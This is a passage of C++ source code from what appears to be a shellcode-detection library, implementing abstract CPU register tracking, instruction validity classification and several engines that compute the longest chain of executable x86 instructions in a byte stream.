  [[nodiscard]] const std::uint16_t* len_succ_data() const noexcept {
    return len_succ_.data();
  }
  [[nodiscard]] const std::int16_t* rel_data() const noexcept {
    return rel16_.data();
  }

  [[nodiscard]] bool prefilter_enabled() const noexcept {
    return prefilter_enabled_;
  }
  /// True when `first_byte` can never start a valid instruction under the
  /// bound rules (exposed for tests; meaningless unless prefilter_enabled).
  [[nodiscard]] bool never_valid_first_byte(std::uint8_t first_byte)
      const noexcept {
    return never_valid_[first_byte] != 0;
  }
  [[nodiscard]] const InstructionCacheStats& stats() const noexcept {
    return stats_;
  }

 private:
  void rebuild_prefilter(const ValidityRules& rules);
  void scan_range(util::ByteView bytes, std::size_t begin, std::size_t end);

  /// Classification columns, 4 bytes per offset (see the packed-word
  /// constants above). Split SoA so the DP streams exactly what it reads.
  std::vector<std::uint16_t> len_succ_;
  std::vector<std::int16_t> rel16_;

  std::array<std::uint8_t, 256> never_valid_{};
  bool prefilter_enabled_ = false;
  /// First-level memo keyed by the first byte alone, 512 bytes (always
  /// L1-resident). Covers never-valid first bytes (prefilled from the
  /// prefilter: length 1, kInvalid) and memoized single-byte structures
  /// (opcodes without prefix/ModR/M — most letters in text). An offset
  /// that hits here never touches the 128 KiB pair table, which keeps
  /// that table's hot-line footprint down to the multi-byte structures.
  /// Entry 0 = fall through to the pair/quad memos or the scan.
  std::array<std::uint16_t, 256> first_memo_{};
  /// Dense memo for two-byte structures, keyed (byte0 << 8) | byte1.
  /// Entry 0 = not yet seen; see the encoding constants in
  /// instruction_cache.cpp.
  std::vector<std::uint16_t> pair_memo_;
  /// Open-addressing memo for three/four-byte structures, keyed by the
  /// first four window bytes (little-endian). quad_entry_ 0 = empty slot.
  std::vector<std::uint32_t> quad_key_;
  std::vector<std::uint16_t> quad_entry_;

  ValidityRules rules_{};
  std::uint64_t rules_key_ = 0;
  bool bound_ = false;
  std::uint64_t stream_offset_ = 0;
  std::size_t scan_begin_ = 0;  ///< build_floor of the current binding.

  InstructionCacheStats stats_;
};

}  // namespace mel::exec
