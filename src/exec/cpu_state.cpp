#include "mel/exec/cpu_state.hpp"

#include "mel/util/rng.hpp"

namespace mel::exec {

namespace {

using disasm::Gpr;
using disasm::Instruction;
using disasm::Mnemonic;
using disasm::Operand;
using disasm::OperandKind;

bool is_gpr(const Operand& operand) noexcept {
  return operand.kind == OperandKind::kRegister &&
         operand.reg != Gpr::kNone;
}

}  // namespace

AbstractCpu::AbstractCpu() {
  states_.fill(RegState::kUninit);
  values_.fill(0);
  // ESP is always a live stack pointer in the hosting process.
  set_init(Gpr::kEsp);
}

RegState AbstractCpu::state(Gpr reg) const noexcept {
  return states_[static_cast<std::uint8_t>(reg) & 7];
}

std::uint32_t AbstractCpu::known_value(Gpr reg) const noexcept {
  return values_[static_cast<std::uint8_t>(reg) & 7];
}

void AbstractCpu::set_uninit(Gpr reg) noexcept {
  states_[static_cast<std::uint8_t>(reg) & 7] = RegState::kUninit;
  values_[static_cast<std::uint8_t>(reg) & 7] = 0;
}

void AbstractCpu::set_init(Gpr reg) noexcept {
  states_[static_cast<std::uint8_t>(reg) & 7] = RegState::kInit;
  values_[static_cast<std::uint8_t>(reg) & 7] = 0;
}

void AbstractCpu::set_known(Gpr reg, std::uint32_t value) noexcept {
  states_[static_cast<std::uint8_t>(reg) & 7] = RegState::kKnown;
  values_[static_cast<std::uint8_t>(reg) & 7] = value;
}

std::uint64_t AbstractCpu::hash() const noexcept {
  std::uint64_t seed = 0x243F6A8885A308D3ULL;
  for (int i = 0; i < 8; ++i) {
    seed ^= static_cast<std::uint64_t>(states_[i]) + 0x9E3779B9u +
            (seed << 6) + (seed >> 2);
    seed ^= values_[i] + 0x9E3779B9u + (seed << 6) + (seed >> 2);
  }
  return util::splitmix64_next(seed);
}

void AbstractCpu::apply(const Instruction& insn) noexcept {
  const Operand& dst = insn.operands[0];
  const Operand& src = insn.operands[1];

  switch (insn.mnemonic) {
    case Mnemonic::kMov:
      if (!is_gpr(dst)) return;
      if (src.kind == OperandKind::kImmediate) {
        set_known(dst.reg, static_cast<std::uint32_t>(src.immediate));
      } else if (is_gpr(src)) {
        states_[static_cast<std::uint8_t>(dst.reg)] = state(src.reg);
        values_[static_cast<std::uint8_t>(dst.reg)] = known_value(src.reg);
      } else {
        set_init(dst.reg);  // Loaded from memory/segment: unknown value.
      }
      return;

    case Mnemonic::kLea: {
      if (!is_gpr(dst) || !src.is_memory()) return;
      // Known when every address component is known.
      std::uint32_t value = static_cast<std::uint32_t>(src.displacement);
      bool known = true;
      bool uninit = false;
      if (src.base != Gpr::kNone) {
        known = known && state(src.base) == RegState::kKnown;
        uninit = uninit || is_uninitialized(src.base);
        value += known_value(src.base);
      }
      if (src.index != Gpr::kNone) {
        known = known && state(src.index) == RegState::kKnown;
        uninit = uninit || is_uninitialized(src.index);
        value += known_value(src.index) * src.scale;
      }
      if (known) {
        set_known(dst.reg, value);
      } else if (uninit) {
        set_uninit(dst.reg);  // Garbage in, garbage out.
      } else {
        set_init(dst.reg);
      }
      return;
    }

    case Mnemonic::kXor:
      // xor r, r zeroes the register regardless of prior state — the
      // canonical register-clearing idiom in shellcode.
      if (is_gpr(dst) && is_gpr(src) && dst.reg == src.reg &&
          dst.width == disasm::Width::kDword) {
        set_known(dst.reg, 0);
        return;
      }
      [[fallthrough]];
    case Mnemonic::kAdd:
    case Mnemonic::kOr:
    case Mnemonic::kAdc:
    case Mnemonic::kSbb:
    case Mnemonic::kAnd:
    case Mnemonic::kSub: {
      if (!is_gpr(dst)) return;
      if (dst.width != disasm::Width::kDword) {
        // Partial-width update of a known register: degrade.
        if (state(dst.reg) != RegState::kUninit) set_init(dst.reg);
        return;
      }
      // Constant-fold when both sides are known.
      std::uint32_t rhs = 0;
      bool rhs_known = false;
      if (src.kind == OperandKind::kImmediate) {
        rhs = static_cast<std::uint32_t>(src.immediate);
        rhs_known = true;
      } else if (is_gpr(src) && state(src.reg) == RegState::kKnown) {
        rhs = known_value(src.reg);
        rhs_known = true;
      }
      if (state(dst.reg) == RegState::kKnown && rhs_known) {
        std::uint32_t lhs = known_value(dst.reg);
        switch (insn.mnemonic) {
          case Mnemonic::kAdd: lhs += rhs; break;
          case Mnemonic::kOr: lhs |= rhs; break;
          case Mnemonic::kAnd: lhs &= rhs; break;
          case Mnemonic::kSub: lhs -= rhs; break;
          case Mnemonic::kXor: lhs ^= rhs; break;
          default:
            // ADC/SBB depend on untracked flags: degrade to initialized.
            set_init(dst.reg);
            return;
        }
        set_known(dst.reg, lhs);
      } else if (state(dst.reg) == RegState::kUninit) {
        // Garbage stays garbage under arithmetic.
        set_uninit(dst.reg);
      } else {
        set_init(dst.reg);
      }
      return;
    }

    case Mnemonic::kInc:
    case Mnemonic::kDec:
      if (!is_gpr(dst)) return;
      if (state(dst.reg) == RegState::kKnown &&
          dst.width == disasm::Width::kDword) {
        set_known(dst.reg, known_value(dst.reg) +
                               (insn.mnemonic == Mnemonic::kInc ? 1u : ~0u));
      }
      return;

    case Mnemonic::kPop:
      if (is_gpr(dst)) set_init(dst.reg);  // Stack data: defined, unknown.
      return;

    case Mnemonic::kPopa:
      // POPA initializes all registers from the stack (ESP skipped by the
      // instruction but recomputed, so it stays initialized).
      for (int r = 0; r < 8; ++r) {
        set_init(static_cast<Gpr>(r));
      }
      return;

    case Mnemonic::kXchg:
      if (is_gpr(dst) && is_gpr(src)) {
        std::swap(states_[static_cast<std::uint8_t>(dst.reg)],
                  states_[static_cast<std::uint8_t>(src.reg)]);
        std::swap(values_[static_cast<std::uint8_t>(dst.reg)],
                  values_[static_cast<std::uint8_t>(src.reg)]);
      } else if (is_gpr(dst)) {
        set_init(dst.reg);
      } else if (is_gpr(src)) {
        set_init(src.reg);
      }
      return;

    case Mnemonic::kMovzx:
    case Mnemonic::kMovsx:
    case Mnemonic::kBswap:
    case Mnemonic::kImul:
      if (is_gpr(dst) && state(dst.reg) == RegState::kUninit &&
          is_gpr(src) && state(src.reg) != RegState::kUninit) {
        set_init(dst.reg);
      } else if (is_gpr(dst) && state(dst.reg) == RegState::kKnown) {
        set_init(dst.reg);  // Value no longer tracked precisely.
      }
      return;

    case Mnemonic::kIn:
    case Mnemonic::kLahf:
    case Mnemonic::kSalc:
      // AL/eAX written with unknown data; degrade EAX.
      if (state(Gpr::kEax) == RegState::kUninit) return;
      set_init(Gpr::kEax);
      return;

    case Mnemonic::kCwde:
    case Mnemonic::kCdq:
    case Mnemonic::kAaa:
    case Mnemonic::kAas:
    case Mnemonic::kAam:
    case Mnemonic::kAad:
    case Mnemonic::kDaa:
    case Mnemonic::kDas:
      // Modify EAX/EDX views; keep the coarse state, drop known values.
      if (state(Gpr::kEax) == RegState::kKnown) set_init(Gpr::kEax);
      if (insn.mnemonic == Mnemonic::kCdq &&
          state(Gpr::kEdx) == RegState::kUninit) {
        set_init(Gpr::kEdx);  // CDQ writes EDX from EAX's sign.
      }
      return;

    default: {
      // Conservative fallback: any other instruction that writes its first
      // GPR operand leaves it defined-but-unknown (never *less* defined).
      if (is_gpr(dst) && insn.has_flag(disasm::kFlagMemRead) &&
          state(dst.reg) == RegState::kUninit) {
        set_init(dst.reg);
      }
      return;
    }
  }
}

}  // namespace mel::exec
