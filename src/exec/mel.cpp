#include "mel/exec/mel.hpp"

#include <algorithm>
#include <cassert>
#include <vector>

#include "mel/disasm/decoder.hpp"
#include "mel/util/fault_injection.hpp"

namespace mel::exec {

namespace {

using disasm::Instruction;

/// Shared limit enforcement for all engines. `work_count` is the engine's
/// monotone work counter (instructions decoded, or explorer steps); the
/// deadline is only consulted every kDeadlineCheckInterval units so the
/// hot loop pays a masked compare, not a clock read. The kEngineStall
/// fault point lives at the same checkpoint: a firing stall advances the
/// scan clock, which the very next deadline compare observes.
bool limits_tripped(const MelOptions& options, std::uint64_t work_count,
                    MelResult& result) {
  if (options.decode_budget > 0 &&
      result.instructions_decoded > options.decode_budget) {
    result.budget_exhausted = true;
    return true;
  }
  if ((work_count & (kDeadlineCheckInterval - 1)) == 0) {
    if (util::fault::should_fire(util::fault::Point::kEngineStall)) {
      util::fault::advance_clock(util::fault::time_jump());
    }
    if (options.deadline && util::fault::now() >= *options.deadline) {
      result.deadline_exceeded = true;
      return true;
    }
  }
  return false;
}

/// Control-flow successors of a valid instruction, as stream offsets.
/// Returns raw targets (may be out of range or backward); the engines
/// filter. A count of 0 means the path cannot be followed further
/// (ret, indirect or far transfer).
int successor_offsets(const Instruction& insn, std::int64_t out[2]) {
  if (insn.has_flag(disasm::kFlagRet) ||
      insn.has_flag(disasm::kFlagBranchIndirect) ||
      insn.has_flag(disasm::kFlagBranchFar)) {
    return 0;
  }
  const auto fall_through = static_cast<std::int64_t>(insn.end_offset());
  if (insn.has_flag(disasm::kFlagCondBranch)) {
    out[0] = fall_through;
    out[1] = insn.branch_target();
    return 2;
  }
  if (insn.has_flag(disasm::kFlagUncondBranch) ||
      insn.has_flag(disasm::kFlagCall)) {
    // Relative JMP/CALL: execution continues at the target only.
    out[0] = insn.branch_target();
    return 1;
  }
  out[0] = fall_through;
  return 1;
}

}  // namespace

util::Status MelOptions::validate() const {
  if (step_budget == 0) {
    return util::Status::invalid_config(
        "MelOptions::step_budget must be >= 1 (0 would let the path "
        "explorer do no work at all)");
  }
  if (early_exit_threshold < -1) {
    return util::Status::invalid_config(
        "MelOptions::early_exit_threshold must be -1 (disabled) or >= 0");
  }
  return util::Status::ok();
}

MelResult compute_mel_dag(util::ByteView bytes, const MelOptions& options,
                          MelScratch& scratch) {
  MelResult result;
  const auto n = static_cast<std::int64_t>(bytes.size());
  if (n == 0) return result;

  // longest[o] = number of valid instructions executable starting at o.
  std::vector<std::int32_t>& longest = scratch.longest;
  longest.assign(static_cast<std::size_t>(n) + 1, 0);

  for (std::int64_t offset = n - 1; offset >= 0; --offset) {
    const Instruction insn =
        disasm::decode_instruction(bytes, static_cast<std::size_t>(offset));
    ++result.instructions_decoded;
    if (limits_tripped(options, result.instructions_decoded, result)) {
      return result;
    }
    if (!is_valid_instruction(insn, options.rules)) continue;  // longest = 0.

    std::int64_t succ[2];
    const int succ_count = successor_offsets(insn, succ);
    std::int32_t best_continuation = 0;
    for (int i = 0; i < succ_count; ++i) {
      const std::int64_t target = succ[i];
      if (target <= offset) {
        // Backward or self target: only binary streams can encode this
        // (text rel8 displacements are positive). The DP cannot follow it;
        // cut the path here and let the caller know.
        result.loop_detected = true;
        continue;
      }
      if (target > n) continue;  // Jumps out of the analyzed stream.
      best_continuation =
          std::max(best_continuation, longest[static_cast<std::size_t>(target)]);
    }
    const std::int32_t total = 1 + best_continuation;
    longest[static_cast<std::size_t>(offset)] = total;
    if (total > result.mel) {
      result.mel = total;
      result.best_entry_offset = static_cast<std::size_t>(offset);
      if (options.early_exit_threshold >= 0 &&
          result.mel > options.early_exit_threshold) {
        result.early_exit = true;
        return result;
      }
    }
  }
  return result;
}

namespace {

/// The kCachedDag DP over the cache's packed columns. Templated on the
/// run-length element: int16 for windows under 32 Ki bytes (a MEL is at
/// most n, and the halved table keeps a 4 KiB window's whole working set
/// L1-resident), int32 beyond.
template <typename TLongest>
MelResult run_cached_dp(util::ByteView bytes, const MelOptions& options,
                        const InstructionCache& cache,
                        std::vector<TLongest>& longest) {
  MelResult result;
  const auto n = static_cast<std::int64_t>(bytes.size());

  // Padded past n+1 with zeros so the always-forward fall-through index
  // (at most offset + 255, lengths being one byte) needs no clamp: any
  // index in (n, n + 256] reads a zero continuation, exactly what the
  // out-of-stream rule prescribes. Only [0, n) is ever written.
  longest.assign(static_cast<std::size_t>(n) + 257, 0);
  const std::uint16_t* len_succ = cache.len_succ_data();
  const std::int16_t* rel16 = cache.rel_data();

  // Identical work accounting to compute_mel_dag, restated so the hot
  // loop pays for none of it. There instructions_decoded increments once
  // per offset examined and limits_tripped runs before each body; here the
  // counter IS n - offset, so the budget trip point (count > budget,
  // checked before the body) is simply the loop bound `stop`, and the
  // every-kDeadlineCheckInterval checkpoint (fault hook + deadline read)
  // runs between batches of check-free iterations — at exactly the counts
  // the legacy mask compare would have fired on. On the budget-trip
  // iteration the legacy path returns before reaching its deadline
  // checkpoint, which the batched form reproduces by exiting the outer
  // loop before any checkpoint at a count past the budget.
  const std::int64_t stop =
      (options.decode_budget > 0 &&
       options.decode_budget < static_cast<std::uint64_t>(n))
          ? n - static_cast<std::int64_t>(options.decode_budget)
          : 0;

  // The successor handling is the branch-free restatement of
  // compute_mel_dag's switch — succ classes in window data are effectively
  // random, so a predicated formulation beats predicted branches. Per
  // class: kInvalid has no successors and leaves longest at 0; kNone has
  // none but scores; kFall uses the fall-through; kBranch the relative
  // target; kCondBranch both. The fall-through (offset + length, length
  // >= 1) is always forward, so only the branch target can set
  // loop_detected; targets past the end contribute a zero continuation,
  // which indexing the (n+1)-entry table at a clamped position provides
  // for free (longest[n] == 0).
  bool loop_detected = false;
  std::int64_t offset = n - 1;
  while (offset >= stop) {
    const auto count = static_cast<std::uint64_t>(n - offset);
    if ((count & (kDeadlineCheckInterval - 1)) == 0) {
      if (util::fault::should_fire(util::fault::Point::kEngineStall)) {
        util::fault::advance_clock(util::fault::time_jump());
      }
      if (options.deadline && util::fault::now() >= *options.deadline) {
        result.deadline_exceeded = true;
        result.instructions_decoded = count;
        result.loop_detected = result.loop_detected || loop_detected;
        return result;
      }
    }
    const std::uint64_t next_checkpoint =
        (count & ~static_cast<std::uint64_t>(kDeadlineCheckInterval - 1)) +
        kDeadlineCheckInterval;
    const std::int64_t batch_low =
        std::max(stop, n - static_cast<std::int64_t>(next_checkpoint - 1));
    for (; offset >= batch_low; --offset) {
      const auto o = static_cast<std::size_t>(offset);
      const std::uint32_t word = len_succ[o];
      const std::uint32_t length = word & kCacheLenMask;
      const unsigned sc = (word >> kCacheSuccShift) & 0x7;
      std::int64_t rel = rel16[o];
      if (word & kCacheWideRel) {
        // Rare (a rel32 outside int16); the flag is set deterministically
        // from the displacement value, so this branch predicts well.
        rel = static_cast<std::int32_t>(util::load_le32(bytes, o + length - 4));
      }
      const std::int64_t fall_through = offset + length;
      const std::int64_t target = fall_through + rel;

      const bool use_fall =
          sc == static_cast<unsigned>(CacheSucc::kFall) ||
          sc == static_cast<unsigned>(CacheSucc::kCondBranch);
      const bool use_branch =
          sc == static_cast<unsigned>(CacheSucc::kBranch) ||
          sc == static_cast<unsigned>(CacheSucc::kCondBranch);
      const bool branch_forward = use_branch && target > offset;
      loop_detected |= use_branch && target <= offset;

      const std::size_t target_clamped = static_cast<std::size_t>(
          std::min(std::max(target, std::int64_t{0}), n));
      const std::int32_t cont_fall =
          longest[static_cast<std::size_t>(fall_through)] &
          -static_cast<std::int32_t>(use_fall);
      const std::int32_t cont_branch =
          longest[target_clamped] & -static_cast<std::int32_t>(branch_forward);

      const std::int32_t total =
          (1 + std::max(cont_fall, cont_branch)) &
          -static_cast<std::int32_t>(
              sc != static_cast<unsigned>(CacheSucc::kInvalid));
      longest[o] = static_cast<TLongest>(total);
      if (total > result.mel) {
        result.mel = total;
        result.best_entry_offset = o;
        if (options.early_exit_threshold >= 0 &&
            result.mel > options.early_exit_threshold) {
          result.early_exit = true;
          result.instructions_decoded = static_cast<std::uint64_t>(n - offset);
          result.loop_detected = result.loop_detected || loop_detected;
          return result;
        }
      }
    }
  }
  if (stop > 0) {
    // The legacy loop's (budget + 1)'th increment trips before that
    // offset's body runs.
    result.budget_exhausted = true;
    result.instructions_decoded = options.decode_budget + 1;
  } else {
    result.instructions_decoded = static_cast<std::uint64_t>(n);
  }
  result.loop_detected = result.loop_detected || loop_detected;
  return result;
}

}  // namespace

MelResult compute_mel_cached(util::ByteView bytes, const MelOptions& options,
                             MelScratch& scratch) {
  const auto n = static_cast<std::int64_t>(bytes.size());
  if (n == 0) return MelResult{};

  // When a decode budget would trip before the DP reaches low offsets,
  // don't scan them: the legacy engine counts offsets n-1 down to
  // n-1-budget (the budget+1'th decode trips before its entry is used),
  // so only entries at offsets >= n-budget are ever consulted.
  const std::size_t build_floor =
      (options.decode_budget > 0 &&
       options.decode_budget < static_cast<std::uint64_t>(n))
          ? static_cast<std::size_t>(n) -
                static_cast<std::size_t>(options.decode_budget)
          : 0;
  InstructionCache& cache = scratch.cache;
  cache.bind(bytes, options.rules, options.cache_stream_offset,
             options.cache_reuse, build_floor);

  if (n <= 32767) {
    return run_cached_dp<std::int16_t>(bytes, options, cache,
                                       scratch.longest16);
  }
  return run_cached_dp<std::int32_t>(bytes, options, cache, scratch.longest);
}

MelResult compute_mel_explorer(util::ByteView bytes, const MelOptions& options,
                               MelScratch& scratch) {
  MelResult result;
  const std::size_t n = bytes.size();
  if (n == 0) return result;

  // Instructions are CPU-state independent: decode each offset once.
  std::vector<Instruction>& decoded = scratch.decoded;
  decoded.assign(n, Instruction{});
  std::vector<std::uint8_t>& decoded_yet = scratch.decoded_yet;
  decoded_yet.assign(n, 0);
  const auto instruction_at = [&](std::size_t offset) -> const Instruction& {
    if (!decoded_yet[offset]) {
      decoded[offset] = disasm::decode_instruction(bytes, offset);
      decoded_yet[offset] = 1;
      ++result.instructions_decoded;
    }
    return decoded[offset];
  };

  struct Frame {
    std::size_t offset;
    AbstractCpu cpu;
    std::int64_t count;
    bool entered;  ///< True once children were pushed; pop = backtrack.
  };

  std::vector<std::uint8_t>& on_path = scratch.on_path;
  on_path.assign(n, 0);
  std::vector<Frame> stack;
  std::uint64_t steps = 0;

  const auto record = [&](std::int64_t count, std::size_t entry) {
    if (count > result.mel) {
      result.mel = count;
      result.best_entry_offset = entry;
    }
  };

  for (std::size_t entry = 0; entry < n; ++entry) {
    stack.clear();
    stack.push_back(Frame{entry, AbstractCpu{}, 0, false});
    while (!stack.empty()) {
      Frame frame = stack.back();
      stack.pop_back();
      if (frame.entered) {
        on_path[frame.offset] = false;  // Backtrack.
        continue;
      }
      if (frame.offset >= n) {
        record(frame.count, entry);
        continue;
      }
      if (on_path[frame.offset]) {
        // Cycle: this path re-executes earlier instructions and could run
        // forever error-free. Flag it; the detector treats a loop as
        // exceeding any threshold.
        result.loop_detected = true;
        record(frame.count, entry);
        continue;
      }
      if (++steps > options.step_budget) {
        result.budget_exhausted = true;
        return result;
      }
      if (limits_tripped(options, steps, result)) return result;
      // Defense in depth against a pathological frontier: a path visits
      // each offset at most once (on_path), so the stack holds at most
      // one backtrack marker plus two children per path position — more
      // frames than that means a broken invariant, and the surface is
      // attacker-chosen bytes. Degrade (mel is a lower bound), don't let
      // the frontier grow without bound.
      if (stack.size() > 3 * n + 4) {
        result.budget_exhausted = true;
        return result;
      }

      const Instruction& insn = instruction_at(frame.offset);
      if (!is_valid_instruction(insn, options.rules, &frame.cpu)) {
        record(frame.count, entry);
        continue;
      }

      const std::int64_t count = frame.count + 1;
      record(count, entry);
      if (options.early_exit_threshold >= 0 &&
          result.mel > options.early_exit_threshold) {
        result.early_exit = true;
        return result;
      }

      AbstractCpu cpu = frame.cpu;
      cpu.apply(insn);

      // Re-push this frame as a backtrack marker, then the children.
      on_path[frame.offset] = true;
      stack.push_back(Frame{frame.offset, AbstractCpu{}, 0, true});

      std::int64_t succ[2];
      const int succ_count = successor_offsets(insn, succ);
      for (int i = 0; i < succ_count; ++i) {
        if (succ[i] < 0 || succ[i] > static_cast<std::int64_t>(n)) continue;
        stack.push_back(
            Frame{static_cast<std::size_t>(succ[i]), cpu, count, false});
      }
    }
  }
  return result;
}

std::vector<std::int32_t> compute_execable_lengths(util::ByteView bytes,
                                                   const ValidityRules& rules) {
  const auto n = static_cast<std::int64_t>(bytes.size());
  std::vector<std::int32_t> longest(static_cast<std::size_t>(n) + 1, 0);
  for (std::int64_t offset = n - 1; offset >= 0; --offset) {
    const Instruction insn =
        disasm::decode_instruction(bytes, static_cast<std::size_t>(offset));
    if (!is_valid_instruction(insn, rules)) continue;
    std::int64_t succ[2];
    const int succ_count = successor_offsets(insn, succ);
    std::int32_t best = 0;
    for (int i = 0; i < succ_count; ++i) {
      if (succ[i] <= offset || succ[i] > n) continue;  // Backward/out: cut.
      best = std::max(best, longest[static_cast<std::size_t>(succ[i])]);
    }
    longest[static_cast<std::size_t>(offset)] = 1 + best;
  }
  longest.pop_back();  // Drop the sentinel entry at offset n.
  return longest;
}

std::vector<std::size_t> compute_reach(util::ByteView bytes,
                                       const ValidityRules& rules) {
  const auto n = static_cast<std::int64_t>(bytes.size());
  std::vector<std::size_t> reach(static_cast<std::size_t>(n) + 1,
                                 static_cast<std::size_t>(n));
  reach[static_cast<std::size_t>(n)] = static_cast<std::size_t>(n);
  for (std::int64_t offset = n - 1; offset >= 0; --offset) {
    const Instruction insn =
        disasm::decode_instruction(bytes, static_cast<std::size_t>(offset));
    if (!is_valid_instruction(insn, rules)) {
      reach[static_cast<std::size_t>(offset)] =
          static_cast<std::size_t>(offset);  // Faults immediately.
      continue;
    }
    std::size_t best = insn.end_offset();  // The instruction itself ran.
    std::int64_t succ[2];
    const int succ_count = successor_offsets(insn, succ);
    for (int i = 0; i < succ_count; ++i) {
      if (succ[i] <= offset || succ[i] > n) continue;
      best = std::max(best, reach[static_cast<std::size_t>(succ[i])]);
    }
    reach[static_cast<std::size_t>(offset)] = best;
  }
  reach.pop_back();
  return reach;
}

MelResult compute_mel_sweep(util::ByteView bytes, const MelOptions& options) {
  MelResult result;
  std::size_t offset = 0;
  std::int64_t run = 0;
  std::size_t run_start = 0;
  while (offset < bytes.size()) {
    const Instruction insn = disasm::decode_instruction(bytes, offset);
    ++result.instructions_decoded;
    if (limits_tripped(options, result.instructions_decoded, result)) {
      return result;
    }
    if (is_valid_instruction(insn, options.rules)) {
      if (run == 0) run_start = offset;
      ++run;
      if (run > result.mel) {
        result.mel = run;
        result.best_entry_offset = run_start;
        if (options.early_exit_threshold >= 0 &&
            result.mel > options.early_exit_threshold) {
          result.early_exit = true;
          return result;
        }
      }
    } else {
      run = 0;
    }
    offset += insn.length;
  }
  return result;
}

MelResult compute_mel_dag(util::ByteView bytes, const MelOptions& options) {
  MelScratch scratch;
  return compute_mel_dag(bytes, options, scratch);
}

MelResult compute_mel_cached(util::ByteView bytes,
                             const MelOptions& options) {
  MelScratch scratch;
  return compute_mel_cached(bytes, options, scratch);
}

MelResult compute_mel_explorer(util::ByteView bytes,
                               const MelOptions& options) {
  MelScratch scratch;
  return compute_mel_explorer(bytes, options, scratch);
}

MelResult compute_mel(util::ByteView bytes, const MelOptions& options,
                      MelScratch& scratch) {
  if (options.rules.uninitialized_register_memory) {
    return compute_mel_explorer(bytes, options, scratch);
  }
  switch (options.engine) {
    case MelEngine::kLinearSweep:
      return compute_mel_sweep(bytes, options);  // Allocation-free already.
    case MelEngine::kAllPathsDag:
      return compute_mel_dag(bytes, options, scratch);
    case MelEngine::kPathExplorer:
      return compute_mel_explorer(bytes, options, scratch);
    case MelEngine::kCachedDag:
      return compute_mel_cached(bytes, options, scratch);
  }
  return compute_mel_sweep(bytes, options);
}

MelResult compute_mel(util::ByteView bytes, const MelOptions& options) {
  MelScratch scratch;
  return compute_mel(bytes, options, scratch);
}

}  // namespace mel::exec
