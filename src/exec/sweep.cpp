#include "mel/exec/sweep.hpp"

#include "mel/disasm/decoder.hpp"

namespace mel::exec {

SweepAnalysis analyze_sweep(util::ByteView bytes, const ValidityRules& rules) {
  SweepAnalysis analysis;
  analysis.instructions = disasm::linear_sweep(bytes);
  analysis.classifications.reserve(analysis.instructions.size());

  std::size_t total_length = 0;
  for (const disasm::Instruction& insn : analysis.instructions) {
    const InvalidReason reason = classify_instruction(insn, rules);
    analysis.classifications.push_back(reason);
    if (reason != InvalidReason::kValidInstruction) ++analysis.invalid_count;
    total_length += insn.length;
  }
  analysis.instruction_count = analysis.instructions.size();
  if (analysis.instruction_count > 0) {
    analysis.invalid_fraction =
        static_cast<double>(analysis.invalid_count) /
        static_cast<double>(analysis.instruction_count);
    analysis.average_instruction_length =
        static_cast<double>(total_length) /
        static_cast<double>(analysis.instruction_count);
  }
  return analysis;
}

std::vector<std::size_t> invalidity_census(const SweepAnalysis& analysis) {
  std::vector<std::size_t> census(
      static_cast<std::size_t>(InvalidReason::kDivideError) + 1, 0);
  for (const InvalidReason reason : analysis.classifications) {
    ++census[static_cast<std::size_t>(reason)];
  }
  return census;
}

}  // namespace mel::exec
