#include "mel/exec/validity.hpp"

namespace mel::exec {

namespace {

using disasm::Gpr;
using disasm::Instruction;
using disasm::Mnemonic;
using disasm::Operand;
using disasm::SegReg;

/// Registers implicitly used for addressing by string/xlat instructions.
bool implicit_address_registers_uninit(const Instruction& insn,
                                       const AbstractCpu& cpu) noexcept {
  if (insn.mnemonic == Mnemonic::kXlat) {
    return cpu.is_uninitialized(Gpr::kEbx);
  }
  if (!insn.has_flag(disasm::kFlagString)) return false;
  // Source side uses ESI (movs/cmps/lods/outs), destination side EDI
  // (movs/cmps/stos/scas/ins).
  const bool reads = insn.has_flag(disasm::kFlagMemRead);
  const bool writes = insn.has_flag(disasm::kFlagMemWrite);
  const bool uses_esi =
      reads && insn.mnemonic != Mnemonic::kScas;  // scas reads via EDI.
  const bool uses_edi = writes || insn.mnemonic == Mnemonic::kScas ||
                        insn.mnemonic == Mnemonic::kCmps;
  if (uses_esi && cpu.is_uninitialized(Gpr::kEsi)) return true;
  if (uses_edi && cpu.is_uninitialized(Gpr::kEdi)) return true;
  return false;
}

bool modrm_address_registers_uninit(const Instruction& insn,
                                    const AbstractCpu& cpu) noexcept {
  const Operand* mem = insn.memory_operand();
  if (mem == nullptr) return false;
  if (mem->base != Gpr::kNone && cpu.is_uninitialized(mem->base)) return true;
  if (mem->index != Gpr::kNone && cpu.is_uninitialized(mem->index)) {
    return true;
  }
  return false;
}

}  // namespace

std::string_view invalid_reason_name(InvalidReason reason) noexcept {
  switch (reason) {
    case InvalidReason::kValidInstruction: return "valid";
    case InvalidReason::kUndefinedOpcode: return "undefined-opcode";
    case InvalidReason::kPrivileged: return "privileged";
    case InvalidReason::kIoInstruction: return "io-instruction";
    case InvalidReason::kInterrupt: return "interrupt";
    case InvalidReason::kFarTransfer: return "far-transfer";
    case InvalidReason::kSegmentLoad: return "segment-load";
    case InvalidReason::kWrongSegment: return "wrong-segment";
    case InvalidReason::kCsWrite: return "cs-write";
    case InvalidReason::kAamZero: return "aam-zero";
    case InvalidReason::kAbsoluteMemory: return "absolute-memory";
    case InvalidReason::kUninitializedRegister:
      return "uninitialized-register";
    case InvalidReason::kIllegalMemory:
      return "illegal-memory";
    case InvalidReason::kDivideError:
      return "divide-error";
  }
  return "?";
}

InvalidReason classify_instruction(const Instruction& insn,
                                   const ValidityRules& rules,
                                   const AbstractCpu* cpu) noexcept {
  if (rules.undefined_opcode && insn.has_flag(disasm::kFlagUndefined)) {
    return InvalidReason::kUndefinedOpcode;
  }
  if (rules.privileged && insn.has_flag(disasm::kFlagPrivileged)) {
    return InvalidReason::kPrivileged;
  }
  if (rules.io_instructions &&
      (insn.has_flag(disasm::kFlagIoString) ||
       insn.has_flag(disasm::kFlagIoPort))) {
    return InvalidReason::kIoInstruction;
  }
  if (rules.interrupts && insn.has_flag(disasm::kFlagInterrupt)) {
    return InvalidReason::kInterrupt;
  }
  if (rules.far_control_transfer && insn.has_flag(disasm::kFlagBranchFar)) {
    return InvalidReason::kFarTransfer;
  }
  if (rules.segment_register_load &&
      insn.has_flag(disasm::kFlagSegmentLoad)) {
    return InvalidReason::kSegmentLoad;
  }
  if (rules.aam_zero && insn.mnemonic == Mnemonic::kAam &&
      insn.operand_count >= 1 && insn.operands[0].immediate == 0) {
    return InvalidReason::kAamZero;
  }

  if (insn.accesses_memory()) {
    const SegReg override_seg = insn.segment_override;
    if (rules.wrong_segment_memory && override_seg != SegReg::kNone &&
